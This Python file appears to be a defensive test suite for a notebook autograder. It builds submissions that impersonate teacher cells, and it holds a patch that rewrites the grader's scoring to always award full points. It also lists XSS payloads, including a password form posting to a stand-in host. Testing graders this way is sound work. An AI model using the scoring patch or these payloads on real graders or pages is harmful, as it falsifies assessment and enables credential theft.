"""Cells that pose as the teacher's: in files of every format, under the teacher's ids, with the teacher's marks."""

from __future__ import annotations

import copy
import json

from attacks.attack import ANSWERS, JUNK, Attack

import nbformat

PATCH = """\
checks = checks
checks.Rubric.criterion = lambda self, *args, **kwargs: __import__("contextlib").suppress(BaseException)
checks.Rubric.score = lambda self: 3
rubric = checks.Rubric("x", 3, "x")
"""
"""Points for everything, in the process that runs this."""


def _junk(notebook):
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("solution"):
            cell.source = JUNK[marks["grade_id"]]


def _added(notebook, **more):
    cell = nbformat.v4.new_code_cell(PATCH, **more)
    notebook.cells.insert(1, cell)
    return cell


def _marks(grade_id, **marks):
    usual = {"grade": False, "solution": False, "locked": False, "schema_version": 3, "task": False, "points": 3}
    return {"nbgrader": {"grade_id": grade_id, **usual, **marks}}


def posing(name, about, change, minor=5, **more):
    """Junk and a patch, in a notebook of a minor format after a change."""

    def hand_in(folder, notebook):
        notebook = copy.deepcopy(notebook)
        _junk(notebook)
        change(notebook)
        notebook.nbformat_minor = minor
        if minor < 5:
            for cell in notebook.cells:
                cell.pop("id", None)
        (folder / "build.ipynb").write_text(json.dumps(notebook), encoding="utf-8")

    return Attack(name, about, hands_in=hand_in, deserved=dict.fromkeys(ANSWERS, 0.0), **more)


def _twice_given(notebook):
    given = copy.deepcopy(notebook.cells[0])
    given.source += "\n" + PATCH
    notebook.cells.insert(1, given)


def _given_changed(notebook):
    notebook.cells[0].source += "\n" + PATCH


def _given_split(notebook):
    first = copy.deepcopy(notebook.cells[0])
    first.source = PATCH
    first.metadata = {}
    notebook.cells.insert(0, first)


def _ids_changed_round(notebook):
    cell = _added(notebook)
    cell["id"], notebook.cells[0]["id"] = notebook.cells[0].get("id", "set-up"), cell["id"]


def _test_in_front(notebook):
    cell = _added(notebook, id="t-spread")
    cell.metadata.update(_marks("test-spread", grade=True, locked=True))


def _roles(notebook):
    cell = _added(notebook)
    cell.metadata.update({"role": "test", "functional_course": {"role": "given"}, "origin": "teacher"})


def _metadata(notebook):
    _added(notebook)
    notebook.metadata["functional_course"] = {"roles": ["given"] * 99, "cells": {"test-spread": 0}}


def _marks_of_answers(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = PATCH
            cell.metadata.nbgrader.update(solution=False, locked=True, grade=True)


_ADDITIONS = (
    _added,
    lambda notebook: _added(notebook, id="set-up"),
    _test_in_front,
    _twice_given,
    _given_changed,
    _given_split,
    lambda notebook: _added(notebook, metadata=_marks("set-up-2", locked=True)),
    lambda notebook: _added(notebook, metadata=_marks("test-more", grade=True)),
    _roles,
    _metadata,
)


def _all(notebook):
    for change in _ADDITIONS:
        change(notebook)


_SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[link](javascript:alert(1))",
    "<a href=' javascript:alert(1)'>link</a>",
    "![picture](x' onerror='alert(1))",
    "<svg onload=alert(1)><style>@import 'http://elsewhere.example/x'</style></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "$\\href{javascript:alert(1)}{x}$",
    "</div></div><form action='http://elsewhere.example'><input name=password>",
    "<details ontoggle=alert(1) open>",
)


def _scripts(notebook):
    """Text cells are the learner's own, and are on no page; names of files and cells are told, and are texts there."""
    for text in _SCRIPTS:
        notebook.cells.insert(1, nbformat.v4.new_markdown_cell(text, attachments={text: {"image/svg+xml": text}}))
        notebook.cells.insert(1, nbformat.v4.new_code_cell(f"# {text}", metadata={"name": text}))
    notebook.metadata.update(title=_SCRIPTS[1], authors=[{"name": _SCRIPTS[0]}])


def _with_scripts(folder, notebook):
    _scripts(notebook)
    (folder / "build.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    for text in _SCRIPTS:
        (folder / text.replace("/", "_")).write_text(text)


POSING = [
    Attack(
        "scripts_everywhere",
        "Scripts, links and frames in text cells, comments, attachments, titles and names of files.",
        hands_in=_with_scripts,
        ways=4 * len(_SCRIPTS),
    ),
    *(
        posing(f"minor_{minor}", f"Added cells of every kind in a file of format 4.{minor}.", _all, minor, ways=10)
        for minor in (0, 4, 5)
    ),
    posing("minor_unknown", "An added cell in a file of a format that there is not yet.", _added, 9),
    posing("ids_changed_round", "The set-up's id on another cell, and its own on none.", _ids_changed_round),
    posing("answers_as_tests", "Answers with the marks of tests.", _marks_of_answers, 4, ways=len(ANSWERS)),
]
